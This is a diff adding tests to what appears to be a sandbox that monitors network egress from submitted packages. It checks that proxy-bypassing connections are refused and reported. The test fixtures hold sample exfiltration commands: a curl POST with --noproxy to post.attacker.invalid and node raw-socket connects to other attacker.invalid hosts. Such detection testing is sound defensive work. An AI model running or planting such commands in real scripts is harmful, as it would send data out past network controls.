@@ -147,3 +147,40 @@ describe('a job', () => {
     expect(found(report, 'Egress refused by the gateway')).toEqual([]);
   });
 });
+
+describe('what knows no proxy', () => {
+  let report: Report;
+  beforeAll(async () => {
+    const raw = (port: number, host: string) =>
+      `node -e "require('net').connect(${port}, '${host}', function () { this.end('hello') }).on('error', () => {})"`;
+    const packages = {
+      posting: { 'run.sh': "curl -sS --noproxy '*' -d facts=1 https://post.attacker.invalid/in" },
+      unnamed: { 'run.sh': raw(443, 'raw.attacker.invalid') },
+      elsewhere: { 'run.sh': raw(8443, 'port.attacker.invalid') },
+    };
+    report = await reportOf(service.url, await submit(service.url, await projectOf(packages)));
+  });
+  const rulesOf = (name: string) => report.findings.filter((one) => one.package?.name === name).map(({ rule }) => rule);
+
+  it.each([
+    ['posting', 'post.attacker.invalid', 443],
+    ['unnamed', 'raw.attacker.invalid', 443],
+    ['elsewhere', 'port.attacker.invalid', null],
+  ])('is one finding with the name that was looked up: %s', (name, host, port) => {
+    const expected = name === 'posting' ? ['Network tool started'] : [];
+    expect(rulesOf(name).toSorted()).toEqual(['Egress refused by the gateway', ...expected]);
+    const { output_fields: fields } =
+      found(report, 'Egress refused by the gateway').find((one) => one.package?.name === name)?.alert ?? {};
+    expect(fields).toMatchObject({ 'egress.host': host, ...(port === null ? {} : { 'egress.port': String(port) }) });
+  });
+
+  it('is told with what it sent, and by whom', () => {
+    const row = report.egress.find(({ host, via }) => host === 'post.attacker.invalid' && via === 'transparent');
+    expect(row).toMatchObject({ allowed: false, port: 443, package: { name: 'posting' } });
+    expect(row?.requests).toEqual([expect.objectContaining({ method: 'POST', path: '/in', body: 'facts=1' })]);
+    const elsewhere = report.egress.find(({ host, via }) => host === 'port.attacker.invalid' && via === 'direct');
+    expect(elsewhere).toMatchObject({ port: 8443, package: { name: 'elsewhere' } });
+    const unnamed = report.egress.find(({ host, via }) => host === 'raw.attacker.invalid' && via === 'transparent');
+    expect(unnamed).toMatchObject({ unread: [{ reason: 'not-http', serverName: null }] });
+  });
+});
